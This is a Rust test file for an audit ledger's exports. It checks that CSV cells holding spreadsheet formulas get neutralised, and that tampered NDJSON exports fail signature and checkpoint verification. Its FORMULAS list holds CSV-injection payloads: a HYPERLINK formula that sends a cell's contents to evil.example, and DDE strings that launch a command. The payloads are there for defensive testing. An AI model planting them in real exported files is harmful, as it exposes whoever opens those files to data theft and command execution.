//! Attacks on the ledger's exports: formulas planted in audited text for whoever opens the
//! CSV in a spreadsheet, and an NDJSON export edited after it left the node (a checkpoint
//! line removed, the header's node key swapped).

mod ledger_common;

use akari_accounts::event::{Action, Actor, AuditEvent, AuditSink, Client, DeclaredPerson, Mode};
use akari_accounts::ledger::{
    details, verify, ExportFormat, ExportRange, Ledger, LedgerConfig, VerifyError,
};
use akari_accounts::Zone;
use ledger_common::*;

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn export(ledger: &Ledger, range: &ExportRange, format: ExportFormat) -> Vec<u8> {
    let mut out = Vec::new();
    ledger
        .export(range, format, &Zone::default(), &mut out)
        .unwrap();
    out
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let ledger = open(dir.path(), &key(), &LedgerConfig::default());
    declare_emergency(&ledger);
    for (i, formula) in FORMULAS.iter().enumerate() {
        let actor = Actor::Emergency {
            account_id: formula.to_string(),
            session_id: format!("s-{i}"),
            declared: Some(DeclaredPerson {
                name: formula.to_string(),
                staff_number: formula.to_string(),
                profession: "nurse".into(),
                department: formula.to_string(),
            }),
        };
        let _ = ledger
            .record(AuditEvent {
                details: Some(details::format([(details::TRIED_ACCOUNT, *formula)])),
                client: Client {
                    address: None,
                    user_agent: Some(formula.to_string()),
                },
                ..ev(at(1), actor, Action::LoginSucceeded, Mode::Emergency)
            })
            .unwrap();
    }
    let csv = export(&ledger, &ExportRange::all(), ExportFormat::Csv);
    let mut reader = csv::Reader::from_reader(&csv[..]);
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    for row in &rows {
        for (name, cell) in headers.iter().zip(row.iter()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {name} starts a formula: {cell:?}"
            );
        }
    }
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    for (row, formula) in rows[1..].iter().zip(FORMULAS) {
        let shown = format!("'{formula}");
        for name in [
            "actor_id",
            "declared_name",
            "declared_staff_number",
            "declared_department",
            "user_agent",
        ] {
            assert_eq!(&row[column(name)], shown, "column {name}");
        }
    }
    // Ordinary cells are untouched.
    assert_eq!(&rows[0][column("seq")], "1");
    assert_eq!(&rows[1][column("declared_profession")], "nurse");
}

/// A ledger with checkpoints every five entries, and an export of all of it.
fn checkpointed_ledger(dir: &std::path::Path) -> (Ledger, ed25519_dalek::SigningKey) {
    let k = key();
    let config = LedgerConfig {
        checkpoint_every_entries: 5,
        ..LedgerConfig::default()
    };
    let ledger = open(dir, &k, &config);
    for e in mixed_events(23) {
        let _ = ledger.record(e).unwrap();
    }
    (ledger, k)
}

fn lines(export: &[u8]) -> Vec<String> {
    String::from_utf8(export.to_vec())
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect()
}

fn without_line(lines: &[String], skip: usize) -> Vec<u8> {
    let kept: Vec<&str> = lines
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != skip)
        .map(|(_, l)| l.as_str())
        .collect();
    (kept.join("\n") + "\n").into_bytes()
}

fn checkpoint_size(line: &str) -> Option<u64> {
    let v: serde_json::Value = serde_json::from_str(line).unwrap();
    (v["type"] == "checkpoint").then(|| v["size"].as_u64().unwrap())
}

#[test]
fn deleting_any_checkpoint_line_is_detected_and_named() {
    let dir = tempfile::tempdir().unwrap();
    let (ledger, k) = checkpointed_ledger(dir.path());
    let all = export(&ledger, &ExportRange::all(), ExportFormat::Ndjson);
    // A window that starts right after a checkpoint: that checkpoint follows the header.
    let window = ExportRange {
        from: Some(at(6)),
        to: Some(at(17)),
    };
    let part = export(&ledger, &window, ExportFormat::Ndjson);
    assert!(checkpoint_size(&lines(&part)[1]).is_some());
    for export in [all, part] {
        let report = verify(&export[..], &k.verifying_key()).unwrap();
        let lines = lines(&export);
        let mut deleted = 0;
        for (i, line) in lines.iter().enumerate() {
            let Some(size) = checkpoint_size(line) else {
                continue;
            };
            let err = verify(&without_line(&lines, i)[..], &k.verifying_key()).unwrap_err();
            assert!(
                matches!(err, VerifyError::CheckpointDeleted { size: s, .. } if s == size),
                "checkpoint {size} (line {}) deleted: {err}",
                i + 1
            );
            assert!(
                err.to_string()
                    .contains(&format!("checkpoint {size} is missing")),
                "{err}"
            );
            deleted += 1;
        }
        assert_eq!(deleted, report.checkpoints);
        assert!(deleted >= 3, "{deleted} checkpoint lines");
    }
}

#[test]
fn a_header_whose_node_key_was_changed_does_not_verify() {
    let dir = tempfile::tempdir().unwrap();
    let (ledger, k) = checkpointed_ledger(dir.path());
    let export = export(&ledger, &ExportRange::all(), ExportFormat::Ndjson);
    let mut lines = lines(&export);
    let mut header: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    let theirs = hex::encode(k.verifying_key().as_bytes());
    assert_eq!(header["node_key"], theirs.as_str());
    let other = key();
    header["node_key"] = hex::encode(other.verifying_key().as_bytes()).into();
    lines[0] = header.to_string();
    let forged = (lines.join("\n") + "\n").into_bytes();

    // Checked against the node's key: the header names another one.
    let err = verify(&forged[..], &k.verifying_key()).unwrap_err();
    assert!(matches!(err, VerifyError::NodeKeyMismatch { .. }), "{err}");
    assert!(err.to_string().contains("node_key"), "{err}");
    // Checked against the key the header now names: its signature does not cover that.
    let err = verify(&forged[..], &other.verifying_key()).unwrap_err();
    assert_eq!(err, VerifyError::BadManifestSignature);
    // The untouched export still verifies.
    verify(&export[..], &k.verifying_key()).unwrap();
}

#[test]
fn a_header_without_its_checkpoint_list_or_with_one_removed_does_not_verify() {
    let dir = tempfile::tempdir().unwrap();
    let (ledger, k) = checkpointed_ledger(dir.path());
    let export = export(&ledger, &ExportRange::all(), ExportFormat::Ndjson);
    let lines = lines(&export);
    let header: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    let listed = header["checkpoints"].as_array().unwrap().clone();
    assert!(listed.len() >= 3);

    // A checkpoint line and its entry in the list both removed: the signature fails.
    let victim = lines
        .iter()
        .position(|l| checkpoint_size(l) == listed[1].as_u64())
        .unwrap();
    let mut edited = header.clone();
    edited["checkpoints"].as_array_mut().unwrap().remove(1);
    let mut forged = lines.clone();
    forged[0] = edited.to_string();
    let err = verify(&without_line(&forged, victim)[..], &k.verifying_key()).unwrap_err();
    assert_eq!(err, VerifyError::BadManifestSignature);

    // The list removed altogether: not an export this build accepts.
    let mut edited = header;
    edited.as_object_mut().unwrap().remove("checkpoints");
    let mut forged = lines;
    forged[0] = edited.to_string();
    let err = verify(
        &(forged.join("\n") + "\n").into_bytes()[..],
        &k.verifying_key(),
    )
    .unwrap_err();
    assert!(err.to_string().contains("checkpoints"), "{err}");
}

/// Code that holds the ledger to sign an export's manifest cannot make the node's key sign
/// a checkpoint or a ledger export: those kinds of message are refused.
#[test]
fn the_ledger_signs_export_manifests_but_never_its_own_kinds_of_message() {
    use ed25519_dalek::Verifier;
    let dir = tempfile::tempdir().unwrap();
    let ledger = open(dir.path(), &key(), &LedgerConfig::default());
    let manifest = b"akari-downtime-export\n1\n2026-12-07T06:00:00Z\n3\nab\n";
    let signature = ledger
        .sign_export_manifest(manifest)
        .expect("an export manifest is signed");
    assert!(ledger.public_key().verify(manifest, &signature).is_ok());
    for forged in [
        &b"akari-ledger-checkpoint v1\nsize 99\nhead 00\ntime 2026-12-07T06:00:00Z\n"[..],
        b"akari-ledger-export v1\nnode_key ab\n",
        b"size 99\n",
        b"",
    ] {
        assert!(
            ledger.sign_export_manifest(forged).is_none(),
            "{}",
            String::from_utf8_lossy(forged)
        );
    }
}
